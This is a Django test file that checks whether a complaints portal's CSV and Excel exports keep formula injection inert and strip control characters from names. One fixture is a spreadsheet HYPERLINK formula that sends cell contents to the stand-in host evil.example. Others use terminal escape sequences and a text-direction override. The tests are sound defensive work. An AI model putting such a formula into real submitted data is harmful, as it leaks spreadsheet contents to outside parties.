"""Exports: a name typed as a formula stays text, a control character neither breaks the Excel exports nor
reaches the CSV; names are cleaned of control characters on input (issue 10, point 4)."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cases.models import Business, Case
from portal.tests.test_public import _complaint

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
PERIOD = {"start": "2026-06-01", "end": "2026-06-30"}


def _exports(client):
    out = {}
    for kind in ("table", "cases"):
        for fmt in ("xlsx", "csv"):
            response = client.get(reverse(f"admin:reports_statistics_{kind}", args=[fmt]), PERIOD)
            assert response.status_code == 200, (kind, fmt)
            body = b"".join(response.streaming_content) if response.streaming else response.content
            if fmt == "xlsx":
                sheet = load_workbook(io.BytesIO(body)).active
                out[kind, fmt] = [[c for c in row] for row in sheet.iter_rows(values_only=True)]
            else:
                out[kind, fmt] = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    return out


def test_a_formula_from_the_anonymous_form_stays_text_in_every_export(client, supervisor, mediator):
    client.post(reverse("public:complaint"), _complaint(business_name=FORMULA))
    case = Case.objects.get()
    assert case.business.name == FORMULA
    from cases import services

    services.case_accept(case_id=case.pk, actor=mediator)
    client.force_login(supervisor)
    for key, rows in _exports(client).items():
        cells = [str(c) for row in rows for c in row if c is not None]
        assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), key
        assert "'" + FORMULA in cells, key


def test_a_control_character_in_a_stored_name_breaks_no_export(client, supervisor, make_case):
    case = make_case("accepted")
    Business.objects.filter(pk=case.business_id).update(name="坏\x07公司\x1b[31m")  # as old rows may hold
    client.force_login(supervisor)
    for key, rows in _exports(client).items():
        flat = "".join(str(c) for row in rows for c in row if c is not None)
        assert "坏公司[31m" in flat and "\x07" not in flat and "\x1b" not in flat, key


def test_names_are_cleaned_of_control_characters_on_input(client):
    data = _complaint(consumer_name="李\x1f娜\x1b", business_name="示范\x08电器\u202e商场")
    client.post(reverse("public:complaint"), data)
    case = Case.objects.select_related("consumer", "business").get()
    assert case.consumer.name == "李娜" and case.business.name == "示范电器商场"
